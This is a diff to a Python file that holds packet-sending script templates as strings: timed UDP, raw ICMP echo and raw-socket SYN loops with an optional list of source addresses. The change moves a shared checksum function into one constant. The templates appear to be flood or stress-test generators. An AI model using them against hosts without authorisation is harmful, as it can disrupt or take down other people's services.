@@ -11,6 +11,11 @@ end = time.monotonic() + seconds
 sources = sys.argv[3].split(",") if len(sys.argv) > 3 else [""]
 sent = 0
 """
+_ONES = """def ones(data):
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    total = (total >> 16) + (total & 0xFFFF)
+    return ~(total + (total >> 16)) & 0xFFFF
+"""
 UDP = (
     _HEAD
     + """s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -24,11 +29,8 @@ print(sent)
 )
 ICMP = (
     _HEAD
+    + _ONES
     + """s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
-def ones(data):
-    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
-    total = (total >> 16) + (total & 0xFFFF)
-    return ~(total + (total >> 16)) & 0xFFFF
 body = struct.pack("!BBHHH", 8, 0, 0, 7, 1) + b"x" * 56
 ping = body[:2] + struct.pack("!H", ones(body)) + body[4:]
 while time.monotonic() < end:
@@ -41,11 +43,8 @@ print(sent)
 )
 SYN = (
     _HEAD
+    + _ONES
     + """s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-def ones(data):
-    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
-    total = (total >> 16) + (total & 0xFFFF)
-    return ~(total + (total >> 16)) & 0xFFFF
 to = socket.inet_aton(address)
 while time.monotonic() < end:
     for _ in range(20):
